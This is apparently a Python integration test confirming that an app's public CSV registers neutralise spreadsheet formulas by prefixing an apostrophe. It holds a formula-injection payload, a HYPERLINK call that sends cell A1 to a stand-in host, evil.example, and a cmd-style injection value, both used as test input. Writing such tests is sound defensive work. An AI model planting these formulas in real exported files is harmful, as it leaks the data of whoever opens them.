"""The public registers as CSV open in a spreadsheet as data: text a spreadsheet would run as
a formula is neutralised (shared/spreadsheets.py, docs/security.md "Hostile input")."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.integration.conflicts.support import person, post

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


async def test_a_breach_summary_written_as_a_formula_is_published_as_text(
    client: httpx.AsyncClient,
) -> None:
    await post(
        client,
        "/breaches",
        {"occurred_on": "2026-10-01", "summary": HYPERLINK, "action_taken": "@SUM(1+1)*cmd"},
    )
    await post(
        client,
        "/breaches",
        {"occurred_on": "2026-10-02", "summary": "-2+3", "action_taken": "Vote re-run"},
    )
    response = await client.get(
        "/public/registers/breaches", params={"format": "csv"}, headers={"authorization": ""}
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted((r["summary"], r["action_taken"]) for r in rows) == [
        ("'-2+3", "Vote re-run"),
        ("'" + HYPERLINK, "'@SUM(1+1)*cmd"),
    ]
    # The JSON register is data for programs, not spreadsheets: it keeps the text as written.
    items = (await client.get("/public/registers/breaches")).json()["items"]
    assert sorted(i["summary"] for i in items) == ["-2+3", HYPERLINK]


async def test_numbers_in_a_register_stay_numbers(client: httpx.AsyncClient) -> None:
    gp = await person(client, "=Dr Formula")
    await post(
        client,
        f"/people/{gp}/gifts",
        {
            "kind": "hospitality",
            "source": "+Acme",
            "source_is_supplier": False,
            "value_pence": 3000,
            "received_on": "2026-11-02",
            "accepted": True,
        },
    )
    response = await client.get("/public/registers/gifts", params={"format": "csv"})
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["name"], row["source"], row["value_pence"]) == ("'=Dr Formula", "'+Acme", "3000")
